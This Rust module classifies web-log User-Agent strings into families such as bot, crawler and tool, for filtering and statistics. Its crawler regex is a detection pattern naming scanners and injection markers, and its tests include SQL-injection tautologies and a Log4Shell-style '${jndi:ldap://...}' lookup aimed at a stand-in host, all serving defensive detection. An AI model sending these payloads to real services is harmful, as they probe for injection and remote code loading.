//! User-agent families: `bot`, `crawler`, `tool`, `browser`, `other`, from an ordered set
//! of rules (the `--by user-agent` key, `--exclude-bots`, `--where user-agent=...`).
//!
//! Each rule is one case-insensitive regex over the raw bytes, compiled once with
//! regex-automata: its literal alternations run as one multi-literal search (Teddy /
//! Aho-Corasick), so a rule costs one pass over the user agent whatever its number of
//! names, and the list stays data a reader can check against docs/stats.md. The first
//! rule that matches gives the family; the order is the point (see [`RULES`]).

use regex_automata::meta::Regex;
use std::sync::OnceLock;

/// What kind of client a `User-Agent` says it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Family {
    /// A self-declared robot: search engines, feed fetchers, link previews, AI crawlers.
    Bot,
    /// Scanners, vulnerability probes, SEO crawlers, uptime monitors and health checks.
    Crawler,
    /// A command-line tool or an HTTP library (`curl`, `python-requests`, `okhttp`).
    Tool,
    /// `Mozilla/…` with a known rendering engine.
    Browser,
    /// Anything else, an empty user agent and `-` included.
    Other,
}

impl Family {
    /// The name keys and filters use.
    pub fn name(self) -> &'static str {
        match self {
            Family::Bot => "bot",
            Family::Crawler => "crawler",
            Family::Tool => "tool",
            Family::Browser => "browser",
            Family::Other => "other",
        }
    }

    /// Whether `--exclude-bots` drops it.
    pub fn is_robot(self) -> bool {
        matches!(self, Family::Bot | Family::Crawler)
    }
}

/// The rules, in the order they are tried. Why this order:
/// 1. `crawler` first: SEO crawlers name themselves `...Bot` (AhrefsBot, SemrushBot) and
///    scanners often claim to be a browser, so the specific names must win over both. An
///    injection attempt in the header itself (`" and "1"="1`, `${jndi:`, `<script`,
///    `union select`, `../`) is a scanner too, whatever browser it names.
/// 2. `bot` next: self-declared robots usually carry a browser string too
///    (`Mozilla/5.0 (compatible; Googlebot/2.1; ...)`, Googlebot's smartphone agent with
///    `AppleWebKit`), and some are built on tools (`python-requests ... MyBot`).
/// 3. `tool` before `browser`: a few libraries send `Mozilla/5.0 (compatible; ...)`.
/// 4. `browser` last: `Mozilla/N` or `Opera/N` followed by a known engine token.
///
/// Everything else is `other`.
pub const RULES: [(Family, &str); 4] = [
    (
        Family::Crawler,
        r#"(?i-u)ahrefs|semrush|mj12bot|dotbot|petalbot|blexbot|dataforseo|serpstat|megaindex|rogerbot|screaming frog|sitebulb|seokicks|linkdex|masscan|zgrab|nuclei|nikto|sqlmap|nmap|wpscan|dirbuster|gobuster|feroxbuster|fuzz faster|acunetix|netsparker|qualys|openvas|censysinspect|internet-measurement|expanse|l9explore|l9tcpid|uptimerobot|pingdom|statuscake|site24x7|newrelicpinger|datadog|checkly|uptime-kuma|better uptime|zabbix|nagios|monitoring|kube-probe|healthcheck|health-check|googlehc|prometheus/|blackbox|(\\x22|"|')\s*(and|or)\s|\$\{jndi:|<script|union(\s|\+|%20)+select|\.\./"#,
    ),
    (
        Family::Bot,
        r"(?i-u)bot\b|spider|crawl|slurp|archiver|feedfetcher|feedburner|feedparser|feedly|feedbin|feed fetcher|facebookexternalhit|mediapartners|apis-google|google-inspectiontool|bytespider|yandex|baidu|sogou|exabot|ia_archiver|magpie-crawler",
    ),
    (
        Family::Tool,
        r"(?i-u)curl/|libcurl|wget/|python-requests|python-urllib|python-httpx|python/|aiohttp|go-http-client|okhttp|apache-httpclient|libwww-perl|lwp::|postmanruntime|insomnia|\bk6/|java/|axios/|node-fetch|undici|httpie|guzzlehttp|ruby|faraday|rest-client|powershell|winhttp|reqwest|hyper/|dart:io|scrapy|headlesschrome|phantomjs|http_request|wordpress/|dalvik/",
    ),
    (
        Family::Browser,
        r"(?i-u)^(mozilla/[0-9].*(gecko|applewebkit|trident/|presto/|khtml|edge?/)|opera/[0-9])",
    ),
];

/// The compiled [`RULES`], once per process.
fn compiled() -> &'static [(Family, Option<Regex>); 4] {
    static RULES_RE: OnceLock<[(Family, Option<Regex>); 4]> = OnceLock::new();
    // A rule that failed to compile (it cannot: a test compiles each) matches nothing.
    RULES_RE.get_or_init(|| RULES.map(|(f, re)| (f, compile(re))))
}

/// A rule over raw bytes: `.` may match bytes that are not UTF-8 (user agents are
/// whatever clients send).
fn compile(re: &str) -> Option<Regex> {
    let syntax = regex_automata::util::syntax::Config::new().utf8(false);
    Regex::builder().syntax(syntax).build(re).ok()
}

/// The family of the user agent `ua`, as logged (escapes left: the names are plain).
///
/// A log has few distinct agents, each on many lines, and the rules cost about 3,000
/// instructions an agent: each thread remembers the family of the agents it met last
/// ([`Memo`]), so a repeated agent costs a hash and a compare.
pub fn classify(ua: &[u8]) -> Family {
    let ua = ua.trim_ascii();
    if ua.is_empty() || ua == b"-" {
        return Family::Other;
    }
    if ua.len() > MEMO_MAX_LEN {
        return by_rules(ua);
    }
    MEMO.with(|m| match m.try_borrow_mut() {
        Ok(mut m) => m.family(ua),
        Err(_) => by_rules(ua),
    })
}

/// The first rule that matches `ua` (trimmed, not empty).
fn by_rules(ua: &[u8]) -> Family {
    compiled()
        .iter()
        .find(|(_, re)| re.as_ref().is_some_and(|re| re.is_match(ua)))
        .map_or(Family::Other, |(f, _)| *f)
}

/// Slots of [`Memo`] (a power of two).
const MEMO_SLOTS: usize = 512;
/// Longer agents are classified each time: the memo's memory stays under 256 KiB a
/// thread.
const MEMO_MAX_LEN: usize = 512;

thread_local! {
    static MEMO: std::cell::RefCell<Memo> = std::cell::RefCell::new(Memo::default());
}

/// The families of recent agents, one per slot of their hash (a newer agent takes its
/// slot): bounded, and right whatever the agents, since a slot keeps its agent's bytes.
#[derive(Default)]
struct Memo {
    slots: Vec<(Vec<u8>, Family)>,
}

impl Memo {
    fn family(&mut self, ua: &[u8]) -> Family {
        if self.slots.is_empty() {
            self.slots = vec![(Vec::new(), Family::Other); MEMO_SLOTS];
        }
        let slot = &mut self.slots[hash(ua) as usize & (MEMO_SLOTS - 1)];
        if slot.0 != ua {
            slot.1 = by_rules(ua);
            slot.0.clear();
            slot.0.extend_from_slice(ua);
        }
        slot.1
    }
}

/// A quick hash of `b` (FxHash's step over 8-byte words).
fn hash(b: &[u8]) -> u64 {
    const K: u64 = 0x517c_c1b7_2722_0a95;
    let mut h = b.len() as u64;
    let mut words = b.chunks_exact(8);
    for w in &mut words {
        let mut x = [0u8; 8];
        x.copy_from_slice(w);
        h = (h.rotate_left(5) ^ u64::from_le_bytes(x)).wrapping_mul(K);
    }
    for &c in words.remainder() {
        h = (h.rotate_left(5) ^ u64::from(c)).wrapping_mul(K);
    }
    h ^ (h >> 29)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_compiles() {
        for (f, re) in RULES {
            assert!(compile(re).is_some(), "{f:?}");
        }
    }

    /// Real user agents from ../shared/corpus (elastic-examples/apache_logs and the beats
    /// nginx/apache tests), with the family each was given by hand.
    const CORPUS: &[(&str, Family)] = &[
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) Version/6.0 Mobile/10A5376e Safari/8536.25 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            Family::Bot,
        ),
        (
            "msnbot/2.0b (+http://search.msn.com/msnbot.htm)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)",
            Family::Bot,
        ),
        ("Twitterbot/1.0", Family::Bot),
        ("Googlebot-Image/1.0", Family::Bot),
        (
            "Feedfetcher-Google; (+http://www.google.com/feedfetcher.html; 1 subscribers; feed-id=11390274670024826467)",
            Family::Bot,
        ),
        (
            "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/",
            Family::Bot,
        ),
        ("FeedBurner/1.0 (http://www.FeedBurner.com)", Family::Bot),
        (
            "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
            Family::Bot,
        ),
        (
            "ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; Facebot 1.0; https://developers.facebook.com/docs/sharing/webmasters/crawler)",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (Windows; U; Windows NT 5.1; zh-CN; )  Firefox/1.5.0.11; 360Spider",
            Family::Bot,
        ),
        (
            "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)",
            Family::Crawler,
        ),
        (
            "Mozilla/5.0 (compatible; AhrefsBot/5.0; +http://ahrefs.com/robot/)",
            Family::Crawler,
        ),
        ("curl/7.54.0", Family::Tool),
        ("Wget/1.14 (linux-gnu)", Family::Tool),
        ("Wget/1.20.3 (darwin18.6.0)", Family::Tool),
        ("python-requests/2.22.0", Family::Tool),
        ("Python-urllib/2.7", Family::Tool),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.5 Safari/605.1.15",
            Family::Browser,
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:72.0) Gecko/20100101 Firefox/72.0",
            Family::Browser,
        ),
        (
            "Mozilla/5.0 (Linux; Android 5.1.1; KFFOWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/81.2.16 like Chrome/81.0.4044.138 Safari/537.36",
            Family::Browser,
        ),
        (
            "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2",
            Family::Browser,
        ),
        ("-", Family::Other),
        ("", Family::Other),
        ("Feedbin - 1 subscribers", Family::Bot),
        (
            "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0 (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)",
            Family::Bot,
        ),
    ];

    #[test]
    fn corpus_agents_get_their_hand_assigned_family() {
        for (ua, want) in CORPUS {
            assert_eq!(classify(ua.as_bytes()), *want, "{ua}");
        }
    }

    #[test]
    fn the_memo_gives_what_the_rules_give() {
        // More agents than slots, each asked several times in turns, and a long one.
        let agents: Vec<Vec<u8>> = (0..2000)
            .map(|i| match i % 4 {
                0 => format!("curl/{i}").into_bytes(),
                1 => format!("Mozilla/5.0 (X11) Gecko/{i} Firefox/{i}").into_bytes(),
                2 => format!("agent {i} Googlebot").into_bytes(),
                _ => format!("x{i}").into_bytes(),
            })
            .chain([b"curl/1 ".repeat(100)])
            .collect();
        for _ in 0..3 {
            for a in &agents {
                assert_eq!(
                    classify(a),
                    by_rules(a.trim_ascii()),
                    "{}",
                    String::from_utf8_lossy(a)
                );
            }
        }
        assert_eq!(classify(b"x1"), Family::Other);
        assert_eq!(classify(b"curl/8"), Family::Tool);
    }

    #[test]
    fn scanners_tools_and_odd_bytes() {
        let cases: &[(&[u8], Family)] = &[
            (b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Family::Crawler),
            (b"Mozilla/5.0 zgrab/0.x", Family::Crawler),
            (b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei", Family::Crawler),
            (b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", Family::Crawler),
            (b"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", Family::Crawler),
            (b"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", Family::Crawler),
            (b"kube-probe/1.31", Family::Crawler),
            (b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36\\x22 and \\x221\\x22=\\x221", Family::Crawler),
            (b"Mozilla/5.0 AppleWebKit/537.36 Chrome/91.0\" or \"1\"=\"1", Family::Crawler),
            (b"${jndi:ldap://x.example/a}", Family::Crawler),
            (b"ELB-HealthChecker/2.0", Family::Crawler),
            (b"Prometheus/2.55.1", Family::Crawler),
            (b"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Family::Bot),
            (b"Dalvik/2.1.0 (Linux; U; Android 12; Caf\xC3\xA9 Build/SP1A.210812.016)", Family::Tool),
            (b"Go-http-client/1.1", Family::Tool),
            (b"okhttp/4.9.0", Family::Tool),
            (b"Apache-HttpClient/4.5.13 (Java/11.0.11)", Family::Tool),
            (b"libwww-perl/6.52", Family::Tool),
            (b"PostmanRuntime/7.29.0", Family::Tool),
            (b"k6/0.45.0 (https://k6.io/)", Family::Tool),
            (b"Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.16", Family::Browser),
            (b"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", Family::Browser),
            (b"Mozilla/5.0", Family::Other),
            (b"SAMSUNG-SGH-E250/1.0", Family::Other),
            (b"\xff\xfe\x00 bot", Family::Bot),
            (b"\xff\xfe\x00\x80", Family::Other),
        ];
        for (ua, want) in cases {
            assert_eq!(classify(ua), *want, "{}", String::from_utf8_lossy(ua));
        }
    }
}
